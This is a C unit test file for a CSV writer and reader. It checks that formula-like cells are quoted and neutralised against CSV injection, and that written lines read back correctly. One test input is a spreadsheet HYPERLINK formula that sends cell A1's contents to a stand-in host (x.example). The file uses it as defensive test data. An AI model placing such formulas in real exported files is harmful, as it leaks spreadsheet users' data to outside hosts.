/* check_csv.c: CSV cells as pakn writes them, and read back. */

#include <check.h>
#include <stdlib.h>
#include <string.h>

#include "csv.h"
#include "util.h"

#define LEN(a) (sizeof(a) / sizeof((a)[0]))

/* Cells and how they are written (OWASP's CSV injection advice). */
static const struct {
	const char *in;
	const char *out;
} cell_cases[] = {
    {"Phường Cầu Giấy", "Phường Cầu Giấy"},
    {"", ""},
    {"a,b", "\"a,b\""},
    {"a;b", "\"a;b\""},
    {"say \"hi\"", "\"say \"\"hi\"\"\""},
    {"two\nlines", "\"two\nlines\""},
    {"=HYPERLINK(\"http://x.example/?a=\"&A1,\"Bấm\")",
     "\"'=HYPERLINK(\"\"http://x.example/?a=\"\"&A1,\"\"Bấm\"\")\""},
    {"=1+1", "\"'=1+1\""},
    {"+1+1", "\"'+1+1\""},
    {"-2+3", "\"'-2+3\""},
    {"@SUM(A1:A2)", "\"'@SUM(A1:A2)\""},
    {"\tcmd", "\"'\tcmd\""},
    {"\rcmd", "\"'\rcmd\""},
    {"-", "\"'-\""},
    {"+", "\"'+\""},
    {"-.", "\"'-.\""},
    {"a=1", "a=1"},
    {" =1", " =1"},
    /* Plain numbers stay numbers. */
    {"-5", "-5"},
    {"+1.5", "+1.5"},
    {"71.4", "71.4"},
    {"-1.2.3", "\"'-1.2.3\""},
    {"-1e5", "\"'-1e5\""},
};

/* Write the table. */
START_TEST(test_cell)
{
	struct buf b;

	buf_init(&b);
	csv_cell(&b, cell_cases[_i].in);
	ck_assert_str_eq(b.data, cell_cases[_i].out);
	buf_clear(&b);
}
END_TEST

/* A written line reads back as the cells, formulas with their quote. */
START_TEST(test_round_trip)
{
	struct buf b;
	struct csv c;
	char **f;
	int n;

	buf_init(&b);
	for (size_t i = 0; i < LEN(cell_cases); i++) {
		if (strchr(cell_cases[i].in, '\r') != NULL)
			continue; /* the reader ends lines at a bare CR */
		csv_cell(&b, cell_cases[i].in);
		buf_addc(&b, ',');
	}
	b.data[--b.len] = '\0';
	buf_adds(&b, "\r\n");
	csv_init(&c, b.data, b.len);
	ck_assert_int_eq(csv_next(&c, &f, &n, NULL), 1);
	for (size_t i = 0, k = 0; i < LEN(cell_cases); i++) {
		const char *in = cell_cases[i].in;
		int quoted =
		    cell_cases[i].out[0] == '"' && cell_cases[i].out[1] == '\'';

		if (strchr(in, '\r') != NULL)
			continue;
		ck_assert_int_lt(k, n);
		if (quoted) {
			ck_assert_int_eq(f[k][0], '\'');
			ck_assert_str_eq(f[k] + 1, in);
		} else
			ck_assert_str_eq(f[k], in);
		k++;
	}
	csv_free(f, n);
	buf_clear(&b);
}
END_TEST

/* Lines starting with '#' are comments, skipped like empty lines; the
 * line numbers of errors still count them. */
START_TEST(test_comments)
{
	static const char text[] = "# a comment\r\ncode,name\n# another, "
	                           "with \"quotes\n\nx,\"#not a comment\"\n#";
	struct csv c;
	char **f;
	int n;

	csv_init(&c, text, sizeof text - 1);
	ck_assert_int_eq(csv_next(&c, &f, &n, NULL), 1);
	ck_assert_int_eq(n, 2);
	ck_assert_str_eq(f[0], "code");
	ck_assert_int_eq(c.line, 2);
	csv_free(f, n);
	ck_assert_int_eq(csv_next(&c, &f, &n, NULL), 1);
	ck_assert_int_eq(n, 2);
	ck_assert_str_eq(f[1], "#not a comment");
	ck_assert_int_eq(c.line, 5);
	csv_free(f, n);
	ck_assert_int_eq(csv_next(&c, &f, &n, NULL), 0);
}
END_TEST

/* Build the suite. */
static Suite *
csv_suite(void)
{
	Suite *s = suite_create("csv");
	TCase *tc = tcase_create("core");

	tcase_add_loop_test(tc, test_cell, 0, LEN(cell_cases));
	tcase_add_test(tc, test_round_trip);
	tcase_add_test(tc, test_comments);
	suite_add_tcase(s, tc);
	return s;
}

/* Run the suite; exit non-zero on failure. */
int
main(void)
{
	SRunner *sr = srunner_create(csv_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
